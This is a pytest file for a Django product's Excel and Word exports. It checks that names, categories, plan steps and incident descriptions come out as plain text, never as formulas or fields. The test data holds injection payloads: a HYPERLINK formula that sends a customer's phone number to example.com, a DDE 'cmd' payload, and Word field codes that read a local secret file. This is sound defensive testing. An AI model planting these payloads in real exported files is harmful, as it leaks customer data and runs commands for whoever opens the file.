"""Exports run no code. A customer who gives their name as a spreadsheet formula, or a staff member who
names a category or a position like one, gets their text back as text in every Excel file the product
writes (the ledger, the import templates) and in every Word document (plans, role cards, the incident
special report): no formula, no field, and the words exactly as typed."""

import re
import zipfile
from datetime import timedelta
from io import BytesIO

import pytest
from django.urls import reverse
from docx import Document
from openpyxl import load_workbook

from yingji.complaints import services as complaints
from yingji.complaints.models import Category
from yingji.core import clock
from yingji.incidents import services as incidents
from yingji.incidents.exports import special_report_docx
from yingji.orgs.models import Person, Position, Unit
from yingji.plans.models import EventKind, PlanVersion, Step, VersionStatus

# The phone number in F2 goes to whoever runs example.com, at one click.
LEAK = '=HYPERLINK("http://example.com/?d="&F2,"详情")'
HOSTILE = [LEAK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
FIELD_CODE = '{ HYPERLINK "http://example.com/" } { INCLUDETEXT "c:\\\\secret.txt" } =1+1'


def workbook_of(answer):
    content = b"".join(answer.streaming_content) if answer.streaming else answer.content
    return load_workbook(BytesIO(content))


def assert_inert(book, *texts: str) -> None:
    """No cell is a formula, and each hostile text is there, unchanged, as quoted text."""
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    for text in texts:
        found = [c for c in cells if c.value == text]
        assert found, f"{text!r} is not in the workbook"
        assert all(c.data_type == "s" and c.quotePrefix for c in found)


@pytest.fixture
def hq_consumer(demo) -> Person:
    return Person.objects.select_related("user", "unit").get(user__username="hq_consumer")


def test_the_unmasked_ledger_writes_a_formula_name_as_text(client, hexie_lobby, hq_consumer):
    complaints.register_complaint(
        receiver=hexie_lobby,
        unit=Unit.objects.get(code="JN0101"),
        channel="counter",
        received_at=clock.now() - timedelta(hours=1),
        customer_name=LEAK,
        customer_phone="13812345678",
        content="排队太久",
        staff_complained_name="@SUM(1+1)",
    )
    client.force_login(hq_consumer.user)
    book = workbook_of(client.get(reverse("complaints:ledger")))
    assert_inert(book, LEAK, "@SUM(1+1)")
    row = [c.value for c in book.worksheets[0][2]]
    assert "13812345678" in row  # unmasked: the number the formula would have sent away


def test_the_complaint_template_lists_a_formula_category_as_text(client, hexie_lobby, hq_consumer):
    for name in HOSTILE[:4]:  # a name is stripped, so the tab and CR ones would be "=1+1" again
        complaints.add_category(actor=hq_consumer, axis=Category.Axis.CAUSE, name=name)
    client.force_login(hexie_lobby.user)
    assert_inert(workbook_of(client.get(reverse("complaints:import_template"))), *HOSTILE[:4])


def test_the_people_template_lists_a_formula_position_as_text(client, hq_duty):
    Position.objects.create(code="formula", name=LEAK[:40], name_en="-1+1")
    client.force_login(hq_duty.user)
    answer = client.get(reverse("orgs:import_template", kwargs={"kind": "people"}))
    assert_inert(workbook_of(answer), LEAK[:40], "-1+1")


# --- Word: python-docx writes text runs, never fields ---------------------------------------------------


def assert_plain_text(content: bytes, *texts: str) -> None:
    with zipfile.ZipFile(BytesIO(content)) as package:
        xml = "".join(package.read(n).decode() for n in package.namelist() if n.endswith(".xml"))
    assert not re.search(r"<w:(fldSimple|instrText|fldChar)\b", xml)
    document = Document(BytesIO(content))
    body = [p.text for p in document.paragraphs]
    body += [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    for text in texts:
        assert any(text in line for line in body), f"{text!r} is not in the document"


def test_a_plan_step_written_as_a_formula_or_field_stays_text_in_word(client, hexie_lobby, library):
    version = PlanVersion.objects.filter(status=VersionStatus.APPROVED).order_by("pk").first()
    step = version.steps.filter(position__code="lobby_manager").first() or version.steps.first()
    Step.objects.filter(pk=step.pk).update(action=LEAK, condition=FIELD_CODE)
    client.force_login(hexie_lobby.user)
    url = reverse("plans:version_docx", kwargs={"code": version.plan.code, "number": version.number})
    assert_plain_text(client.get(url).content, LEAK, FIELD_CODE)
    if step.position.code == "lobby_manager":
        card = client.get(reverse("plans:role_card_docx", kwargs={"code": "lobby_manager"}))
        assert_plain_text(card.content, LEAK)


def test_an_incident_described_as_a_formula_or_field_stays_text_in_its_report(library, hexie_lobby):
    incident = incidents.report_incident(
        reporter=hexie_lobby,
        kind=EventKind.objects.get(code="customer_injured"),
        unit=hexie_lobby.unit,
        occurred_at=clock.now() - timedelta(minutes=30),
        description=f"{LEAK} {FIELD_CODE}",
    )
    assert_plain_text(special_report_docx(incident), LEAK)
